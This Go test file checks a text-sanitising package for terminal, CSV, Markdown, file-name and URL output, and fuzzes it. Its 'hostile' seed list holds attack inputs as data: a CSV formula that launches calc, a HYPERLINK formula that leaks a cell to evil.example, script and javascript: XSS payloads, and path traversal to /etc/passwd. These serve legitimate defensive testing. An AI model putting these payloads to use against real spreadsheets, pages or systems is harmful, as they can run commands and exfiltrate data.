package safetext_test

import (
	"net/url"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/riva-prep/riva-prep/pkg/safetext"
)

// hostile is what people have put into subjects, names and ids to get more
// than text out of them. It seeds every fuzz test.
var hostile = []string{
	// terminals
	"\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
	"\x1b[31mred", "\x9b31m", "\u009b2J", "\u0085next", "\x07\x07", "\b\b\b\bgood", "ok\rBAD", "a\nb\r\nc", "\x00nul", "\x7fdel",
	"\x1bP+q544e\x1b\\", "\u2028line", "\u2029paragraph", "\v\f",
	// direction, zero width, look-alikes
	"\u202egnp.exe", "\u202dabc\u202c", "\u2066x\u2069", "zero\u200bwidth", "join\u200der", "\ufeffbom", "soft\u00adhyphen",
	"tag\U000e0041\U000e0001", "\u061cmark", "\u2060word", "fill\u3164er", "\u115f\u1160", "\u2800\u2800", "x\u034fy", "\ue000private", "\U0010ffff", "\ufffe",
	// bad UTF-8
	"\xff\xfe", "\xc3", "\xed\xa0\x80", "\xf4\x90\x80\x80", "a\xe2\x28\xa1", "\ufffd", strings.Repeat("\x80", 9),
	// formulas
	"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "＝1+1",
	`=HYPERLINK("https://evil.example?"&A1,"x")`, "'=1", "+49 30 1234", `";=1`,
	// markdown and HTML
	"a|b|c", "`code`", "```\nblock", "<script>alert(1)</script>", "<img src=x onerror=1>", "[x](javascript:alert(1))",
	"![p](https://evil.example/pixel)", "https://evil.example", "::://x", "**bold** __b__ ~~s~~", `\|`, `\\|`, "&lt;b&gt;", "&#124;", "$x$",
	// file names
	"", ".", "..", "...", " ", "../../etc/passwd", `..\..\boot.ini`, "/etc/passwd", `C:\x`, "C:x", "a:stream", "nul", "NUL.txt", "con .log", "COM1", "com¹.x",
	"LPT9.tar.gz", "CONIN$", "-rf", "--help", ".hidden", "trailing.", "trailing. . ", "a?b*c", "con" + strings.Repeat(" ", 120) + "x",
	"_con" + strings.Repeat("é", 60), strings.Repeat("a", 99) + "é", strings.Repeat("😀", 40), strings.Repeat(".", 300), "con." + strings.Repeat("x", 200),
	// addresses
	"https://user:secret@graph.microsoft.com/v1.0/users/anna@contoso.com?$filter=x#frag", "//evil/\x1b[2J", "mailto:anna@contoso.com",
}

func TestCorpusIsThere(t *testing.T) {
	if len(hostile) < 100 {
		t.Errorf("only %d hostile strings", len(hostile))
	}
}

type example struct{ in, want string }

func check(t *testing.T, name string, f func(string) string, examples []example) {
	t.Helper()
	for _, e := range examples {
		if got := f(e.in); got != e.want {
			t.Errorf("%s(%q) = %q, want %q", name, e.in, got, e.want)
		}
	}
}

func TestTerminal(t *testing.T) {
	check(t, "Terminal", safetext.Terminal, []example{
		{"", ""},
		{"Møte kl. 10:30 – ½ €, 会议, פגישה, 👋🏽", "Møte kl. 10:30 – ½ €, 会议, פגישה, 👋🏽"},
		{"e\u0301 ❤\ufe0f", "e\u0301 ❤\ufe0f"}, // accents and emoji presentation stay
		{"a\nb\r\tc", `a\nb\r\tc`},
		{"\x1b[2J\x00\x7f", `\x1b[2J\x00\x7f`},
		{"\u009b\u0085\u202e\u200b\ufeff", `\u009b\u0085\u202e\u200b\ufeff`},
		{"\U000e0041", `\U000e0041`},
		{"\u3164", `\u3164`},
		{"\xff\xc3", `\xff\xc3`},
		{"\ufffd", "\ufffd"}, // in the text, not a bad byte
	})
}

func TestCSV(t *testing.T) {
	check(t, "CSV", safetext.CSV, []example{
		{"", ""},
		{"Meeting", "Meeting"},
		{"a=b, c+d", "a=b, c+d"},
		{"=1", "'=1"},
		{"+49 30 1234", "'+49 30 1234"},
		{"-", "'-"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"\x00", "'\x00"},
		{"  \t =1", "'  \t =1"},
		{" x", " x"},
		{"\ufeff\u200b=1", "'\ufeff\u200b=1"},
		{"＝1", "'＝1"},
		{"'=1", "'=1"},
		{"   ", "   "},
		{"\xff=1", "\xff=1"},
	})
}

func TestMarkdown(t *testing.T) {
	check(t, "Markdown", safetext.Markdown, []example{
		{"", ""},
		{"Call with A & B (10:30)", "Call with A & B (10:30)"},
		{"a|b", "a&#124;b"},
		{"`x`", "&#96;x&#96;"},
		{"<b>", "&lt;b&gt;"},
		{"a\nb", "a&#92;nb"},
		{`\|`, "&#92;&#124;"},
		{"![x](https://y)", "!&#91;x&#93;(https&#58;//y)"},
		{"*_~$", "&#42;&#95;&#126;&#36;"},
	})
}

func TestFileName(t *testing.T) {
	check(t, "FileName", safetext.FileName, []example{
		{"", "_"},
		{"..", "_"},
		{"  . ", "_"},
		{"Anna Müller.vcf", "Anna Müller.vcf"},
		{"../../etc/passwd", "_.._etc_passwd"},
		{`C:\Users`, "C__Users"},
		{"a/b|c?d*e\"f<g>h", "a_b_c_d_e_f_g_h"},
		{"x\x00\u202ey", "x__y"},
		{"bad\xffbyte", "bad_byte"},
		{"trailing. . ", "trailing"},
		{".hidden", "hidden"},
		{"--help", "help"},
		{"nul", "_nul"},
		{"NUL.txt", "_NUL.txt"},
		{"con .log", "_con .log"},
		{"com¹", "_com¹"},
		{"console", "console"},
		{"com10", "com10"},
		{strings.Repeat("a", 99) + "é", strings.Repeat("a", 99)},
		{strings.Repeat("a", 99) + ".x", strings.Repeat("a", 99)},
		{"con" + strings.Repeat(" ", 120) + "x", "_con"},
	})
}

func TestURL(t *testing.T) {
	check(t, "URL", logged(t), []example{
		{"https://graph.microsoft.com/v1.0/users/anna@contoso.com/contacts?$top=100&$skip=200", "https://graph.microsoft.com/v1.0/users/…/contacts?$skip=…&$top=…"},
		{"https://graph.microsoft.com/v1.0/users('anna%40contoso.com')/todo/lists/delta()?%24deltatoken=secret", "https://graph.microsoft.com/v1.0/users(…)/todo/lists/delta()?$deltatoken=…"},
		{"https://login.microsoftonline.com/8f1c/oauth2/v2.0/token", "https://login.microsoftonline.com/…/oauth2/v2.0/token"},
		{"https://user:secret@host/v1.0/$batch#frag", "https://host/v1.0/$batch"},
		{"https://host/Users/x?anna@contoso.com=1&code=secret", "https://host/Users/…?…"},
		{"https://host/v1.0/users?%zz&$top=1", "https://host/v1.0/users?$top=…"},
		{"mailto:anna@contoso.com", "mailto:…"},
		{"/v1.0//contacts/", "/v1.0//contacts/"},
		{"", ""},
	})
	if got := safetext.URL(nil); got != "" {
		t.Errorf("URL(nil) = %q", got)
	}
}

func logged(t *testing.T) func(string) string {
	return func(s string) string {
		u, err := url.Parse(s)
		if err != nil {
			t.Fatal(err)
		}
		return safetext.URL(u)
	}
}

// fuzz runs f over the hostile strings and what the fuzzer makes of them: the
// result is valid UTF-8 where that is promised, the same when f is applied
// again, and bounded.
func fuzz(f *testing.F, name string, safe func(string) string, bound func(int) int, more func(t *testing.T, in, out string)) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := safe(in)
		if again := safe(out); again != out {
			t.Errorf("%s twice: %q, then %q", name, out, again)
		}
		if most := bound(len(in)); len(out) > most {
			t.Errorf("%s made %d bytes of %d, more than %d", name, len(out), len(in), most)
		}
		more(t, in, out)
	})
}

// wantOneLine says what a terminal must not get, in its own terms.
func wantOneLine(t *testing.T, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("not UTF-8: %q", out)
	}
	for _, r := range out {
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co, unicode.Bidi_Control) {
			t.Errorf("%U in %q", r, out)
		}
	}
}

func FuzzTerminal(f *testing.F) {
	fuzz(f, "Terminal", safetext.Terminal, func(n int) int { return 4 * n }, func(t *testing.T, in, out string) {
		wantOneLine(t, out)
		if in != "" && out == "" {
			t.Errorf("%q vanished", in)
		}
	})
}

func FuzzMarkdown(f *testing.F) {
	fuzz(f, "Markdown", safetext.Markdown, func(n int) int { return 8 * n }, func(t *testing.T, _, out string) {
		wantOneLine(t, out)
		if strings.ContainsAny(out, "|`<>[]*_~\\") || strings.Contains(out, "://") {
			t.Errorf("markup left in %q", out)
		}
	})
}

func FuzzCSV(f *testing.F) {
	fuzz(f, "CSV", safetext.CSV, func(n int) int { return n + 1 }, func(t *testing.T, in, out string) {
		if out != in && out != "'"+in {
			t.Errorf("%q became %q", in, out)
		}
		if text := strings.TrimSpace(out); text != "" && strings.ContainsAny(text[:1], "=+-@") {
			t.Errorf("live formula: %q", out)
		}
		if out != "" && strings.ContainsAny(out[:1], "\t\r\n\x00") {
			t.Errorf("guard missing: %q", out)
		}
	})
}

func FuzzFileName(f *testing.F) {
	fuzz(f, "FileName", safetext.FileName, func(int) int { return 100 }, func(t *testing.T, _, out string) {
		wantOneLine(t, out)
		switch {
		case out == "":
			t.Error("empty")
		case strings.ContainsAny(out, `<>:"/\|?*`):
			t.Errorf("reserved character in %q", out)
		case strings.ContainsAny(out[:1], ".- ") || strings.ContainsAny(out[len(out)-1:], ". "):
			t.Errorf("bad end in %q", out)
		}
		stem, _, _ := strings.Cut(strings.ToUpper(out), ".")
		for _, device := range []string{"CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "COM¹", "CONIN$"} {
			if strings.TrimSpace(stem) == device {
				t.Errorf("device %q", out)
			}
		}
	})
}

// Whatever stands in the places for ids, values, passwords and fragments, the
// log shows the same line.
func FuzzURL(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	const want = "https://graph.microsoft.com/v1.0/users/…/contacts?$filter=…&…"
	f.Fuzz(func(t *testing.T, secret string) {
		u := url.URL{
			Scheme: "https", Host: "graph.microsoft.com", User: url.UserPassword("u", secret), Fragment: secret,
			Path:     "/v1.0/users/id-" + strings.ReplaceAll(secret, "/", "_") + "/contacts",
			RawQuery: url.Values{"$filter": {secret}, "id-" + secret: {"x"}}.Encode(),
		}
		if got := safetext.URL(&u); got != want {
			t.Errorf("URL = %q, want %q", got, want)
		}
	})
}

// Nothing in an address, however it is cut into parts, may steer a terminal.
func FuzzURLParts(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, part string) {
		wantOneLine(t, safetext.URL(&url.URL{Scheme: part, Host: part, Path: part, RawQuery: part}))
		wantOneLine(t, safetext.URL(&url.URL{Scheme: part, Opaque: part}))
	})
}
